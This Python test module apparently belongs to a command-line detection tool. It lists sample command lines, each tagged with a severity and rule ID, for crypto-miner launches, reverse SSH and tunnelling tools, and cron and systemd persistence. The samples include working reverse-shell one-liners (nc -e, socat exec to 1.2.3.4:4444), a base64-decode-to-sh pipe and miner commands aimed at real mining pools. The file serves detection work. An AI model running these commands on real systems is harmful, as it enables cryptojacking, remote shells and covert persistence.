# SPDX-License-Identifier: Apache-2.0
"""Command lines that the packs have rules for: severity, and the rule where it differs, then the line.

A first word without a slash stands for the file of that name in /usr/bin.
"""

from __future__ import annotations

import shlex

from quiet_lines import ETH, REMOTE, XMR

from tracer.detect.execfacts import facts_of
from tracer.rules import RuleSet, Sample

MINERS = f"""
critical  ./xmrig
critical  ./xmrig --version
critical  /tmp/.x/XMRig -c config.json
critical  ./xmrig-6.21.0
critical  /opt/xmrig-notls
critical  ./SRBMiner-MULTI --help
critical  /opt/lolminer/lolMiner --list-devices
critical  ./PhoenixMiner
critical  t-rex -c cfg.json
critical  ./nbminer_linux
critical  ./onezerominer
critical  cpuminer-avx2
critical  minerd
critical  ethminer -G
critical  ./kdevtmpfsi
critical  pearl-gateway start
critical  alpha-miner --pool us1.alphapool.tech:5566 --address prl1qqq --worker a
critical  ./a -o stratum+tcp://pool.example.org:3333 -u me -p x
critical  ./a --url=stratum+ssl://10.0.0.1:443
critical  ./a -ostratum+tcp://10.0.0.1:443
critical  ./a -P stratum2+tls12://{ETH}.rig:x@eu.pool.example:5555
critical  ./a -a kawpow -o [1]stratum+tcp://pool.example:4444 -u w
critical  ./a -o ethproxy+ssl://pool.example:4444
critical  ./a -p zmp+tcp://127.0.0.1:5555
critical  ./a -o daemon+http://127.0.0.1:18081 --coin monero
critical  ./a --pool stratum://pool.example:3333
critical  ./a -o stratum2+tcp://h:34254/9auqWEzQDVyd2oe1JVGFLMLHZtCo2FFqZwtKA5gd9xbuEu7PH72
critical  python3 miner.py -o stratum+tcp://pool.example:3333
critical  docker run --rm img -o stratum+tcp://pool.example:3333
critical  node hash.js --pool=stratum+tcp://pool.example:3333
critical  ./a -o pool.supportxmr.com:443 -u {XMR} -p x
critical  ./a -o xmr.2miners.com:2222 -u me -k
critical  ./a --algo kawpow --pool rvn.2miners.com:6060
critical  ./a -a rx/0 -o gulf.moneroocean.stream:10128
critical  ./a -p eu1.ethermine.org:4444 -w {ETH} --lhr-tune 6
critical  ./a --donate-level 1 --cpu-max-threads-hint=50
critical  ./a --donate-level=0 --randomx-1gb-pages
critical  ./a --randomx-wrmsr=-1 --randomx-mode fast
critical  ./a --nicehash --cpu-no-yield
critical  ./a -epool x:1 -eres 2
critical  ./a -a rx/0 -u {XMR}
critical  ./a --algorithm randomx --wallet {XMR} --pool 1.2.3.4:443
critical  ./a --lhr-tune 2 -u {ETH}
critical  ./miner --algo kawpow --server rvn.2miners.com --port 6060 --user w
critical  miner --algo 144_5 --server 1.2.3.4 --port 1 --user w
critical  ./gminer -s eth.2miners.com
critical  rigel -a karlsenhash -o stratum+tcp://a.b:1
critical  ./rigel -a octopus -o 1.2.3.4:3333
critical  /lib64/ld-linux-x86-64.so.2 ./xmrig -c c.json
critical  /lib64/ld-linux-x86-64.so.2 --preload ./l.so /tmp/.x/lolMiner
critical  /lib/ld-musl-x86_64.so.1 /dev/shm/t-rex
critical  ssh -o stratum+tcp://pool.example:3333
critical  /tmp/systemd-network -o stratum+tcp://pool.example:3333
critical  './[kworker]' -o stratum+tcp://pool.example:3333
critical  memcheck-amd64-linux ./m -o stratum+tcp://pool.example:3333
high      ./a --donate-level 1 -o 1.2.3.4:443
high      ./a --donate-level=1 --coin monero
high      ./a -a rx/0 -o 10.1.2.3:443 -u worker
high      ./a --algo=kheavyhash --pool 10.1.2.3:5555 --wallet w
high      ./a -o 1.2.3.4:443 -u {XMR} -p x
high      ./a -a octopus -o 1.2.3.4:443 -u w -p x
high      ./a --coin ravencoin --url 1.2.3.4:443 --user w --pass x
high      ./a Zm9vIC1vIHN0cmF0dW0rdGNwOi8v N0cmF0dW0rdGNwOi8v
high      python3 -c "import base64;print(base64.b64decode('c3RyYXR1bSt0Y3A6Ly9wb29s'))"
high      ./a LS1kb25hdGUtbGV2ZWw9MQ==
high      vllm serve pearl-ai/Llama-3.1-8B-pearl
high      python3 -m vllm serve --model=pearl-ai/Qwen-pearl
high      systemctl enable --now moneroocean_miner.service
high      service xmrig start
critical  ./a -o kawpow+ssl://pool.example:3333
critical  ./a '{{"url":"stratum+tcp://pool.example:3333","user":"{XMR}"}}'
medium    node cli.js "what is stratum+tcp://pool.example:3333 for?"
medium    bash -c "echo c3RyYXR1bSt0Y3A6Ly9wb29s | base64 -d | sh"
"""

TUNNELS = f"""
tunnel.ssh-reverse high     ssh -R 8080:localhost:22 {REMOTE}
tunnel.ssh-reverse high     ssh -fNR 8080:localhost:22 {REMOTE}
tunnel.ssh-reverse high     ssh -R8080:localhost:22 {REMOTE}
tunnel.ssh-reverse high     ssh '-oRemoteForward=8080 localhost:22' {REMOTE}
tunnel.ssh-reverse high     ssh -R 1080 {REMOTE}
tunnel.ssh-reverse high     autossh -M 0 -N -R 8080:localhost:22 {REMOTE}
tunnel.ssh-reverse high     dbclient -R 8080:localhost:22 {REMOTE}
tunnel.ssh-local medium     ssh -N -L 8080:localhost:80 {REMOTE}
tunnel.ssh-dynamic high     ssh -D 1080 {REMOTE}
tunnel.ssh-tun high         ssh -w 0:0 {REMOTE}
tunnel.ssh-stdio low        ssh -W db:5432 {REMOTE}
tunnel.tool high     ./frpc -c /tmp/x.toml
tunnel.tool high     frps
tunnel.tool high     /root/.cache/huggingface/gradio/frpc/frpc_linux_amd64_v0.3 http -n x
tunnel.tool high     ngrok http 8080
tunnel.tool high     /tmp/ngrok-v3-stable
tunnel.tool high     rathole client.toml
tunnel.tool high     wstunnel client -L socks5://127.0.0.1:1080 wss://e.example
tunnel.tool high     ligolo-agent
tunnel.tool high     gs-netcat -s secret -l -i
tunnel.tool high     pagekite.py 80 me.pagekite.me
tunnel.tool high     iodine -f -P x t.example.org
tunnel.tool high     dnscat --dns server=1.2.3.4,port=53
tunnel.tool high     ptunnel-ng -p 1.2.3.4
tunnel.tool high     pingtunnel -type client
tunnel.tool high     sshuttle -r me@{REMOTE} 0/0
tunnel.tool high     tailscaled --tun=userspace-networking --socks5-server=localhost:1055
tunnel.tool high     tailscale up --authkey x
tunnel.tool high     tailscale funnel 8080
tunnel.tool high     zerotier-one -d
tunnel.tool high     wireguard-go wg0
tunnel.tool high     boringtun-cli wg0
tunnel.tool high     nebula -config /etc/nebula/config.yml
tunnel.tool high     zrok share public localhost:8080
tunnel.tool high     playit
tunnel.tool high     revsocks -connect 1.2.3.4:8443 -pass x
tunnel.tool high     microsocks -p 1080
tunnel.tool high     upterm host
tunnel.tool high     chisel client 1.2.3.4:8080 R:socks
tunnel.tool high     chisel server --reverse
tunnel.tool high     cloudflared tunnel --url http://localhost:8000
tunnel.tool high     cloudflared tunnel run --token eyJ
tunnel.tool high     ./cloudflared-linux-amd64 tunnel --hello-world
tunnel.tool medium   cloudflared access ssh --hostname x
tunnel.tool medium   cloudflared --version
tunnel.tool high     bore local 8000 --to bore.pub
tunnel.tool high     gost -L=socks5://:1080 -F=relay+tls://1.2.3.4:443
tunnel.tool high     ./npc -server=1.2.3.4:8024 -vkey=abc -type=tcp
tunnel.tool high     lt --port 8000
tunnel.tool high     node /x/node_modules/.bin/lt --port 8000
tunnel.tool high     npx localtunnel --port 8000
tunnel.tool high     ./iox proxy -r 1.2.3.4:9999
tunnel.tool high     ./ew -s rssocks -d 1.2.3.4 -e 8888
tunnel.tool high     code tunnel --accept-server-license-terms
tunnel.tool high     code-tunnel --name x
tunnel.tool high     devtunnel host -p 8080
tunnel.tool high     plink -R 8080:localhost:22 {REMOTE}
tunnel.tool high     tsh ssh -R 8080:localhost:22 {REMOTE}
tunnel.tool high     ncat 1.2.3.4 4444 -e /bin/bash
tunnel.tool high     nc -e /bin/sh 1.2.3.4 4444
tunnel.tool high     nc.traditional -lvpe 4444 /bin/sh
tunnel.tool high     ncat -l --sh-exec=/bin/sh 4444
tunnel.tool high     socat TCP-LISTEN:4444,fork EXEC:/bin/bash,pty
tunnel.tool high     socat exec:'bash -li',pty,stderr,setsid tcp:1.2.3.4:4444
tunnel.tool high     ./renamed OPENSSL:1.2.3.4:443 EXEC:/bin/sh
tunnel.tool high     socat UDP:1.2.3.4:11443 TUN:10.0.0.1/24,up
tunnel.tool high     ./renamed client https://1.2.3.4 R:8000:localhost:22
tunnel.tool high     ./renamed client -R tcp://8000:localhost:22 wss://1.2.3.4:443
tunnel.tool high     ./renamed -c /etc/frpc.toml
tunnel.tool high     ./renamed local 8000 --to 1.2.3.4
tunnel.tool high     ./renamed -server=1.2.3.4:8024 -vkey=abc
tunnel.tool high     ./renamed -connect 1.2.3.4:11601 -ignore-cert
tunnel.tool high     ./renamed -connect=1.2.3.4:11601 -accept-fingerprint AA
tunnel.tool high     /lib64/ld-linux-x86-64.so.2 /tmp/frpc -c x
tunnel.tool medium   autossh -M 0 {REMOTE}
tunnel.tool medium   tor -f torrc
tunnel.tool medium   torsocks ls
tunnel.tool medium   openvpn --config x.ovpn
tunnel.tool medium   wg-quick up wg0
tunnel.tool medium   proxychains4 ls
tunnel.service high  ssh -R 80:localhost:80 serveo.net
tunnel.service high  ssh -R0:localhost:8000 nokey@localhost.run
tunnel.service high  ssh -p 443 -R0:localhost:8000 a.pinggy.io
tunnel.service high  ssh tunnel.us.ngrok.com
tunnel.service high  sshpass -p x ssh me@SRV.US
tunnel.service low   ./renamed --host x.trycloudflare.com
tunnel.service low   python3 app.py --public-url=https://abc.ngrok-free.app
"""

HAND_OFFS = """
foothold.hand-off medium    at now + 1 hour
foothold.hand-off medium    batch
foothold.hand-off medium    systemd-run --user --on-active=60 /tmp/x
foothold.hand-off medium    crontab /tmp/table
foothold.hand-off medium    crontab -
foothold.hand-off medium    crontab -u root -e
foothold.hand-off medium    systemctl --user enable sync.service
foothold.hand-off medium    loginctl enable-linger agent
foothold.hand-off medium    busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit
"""


def rows(text: str, columns: int) -> list[list[str]]:
    """Rows of ``columns`` words, the last one taking the rest of the line."""
    return [line.split(None, columns - 1) for line in text.strip().splitlines()]


def sample(command: str) -> Sample:
    argv = [word.encode() for word in shlex.split(command)]
    path = argv[0] if b"/" in argv[0] else b"/usr/bin/" + argv[0]
    return Sample.from_command(argv, path=path, facts=facts_of(argv, path=path))


def fired(rules: RuleSet, event: Sample) -> dict[str, str]:
    """Severity by rule."""
    return {rule.id: severity for rule, severity in rules.judge(event)}
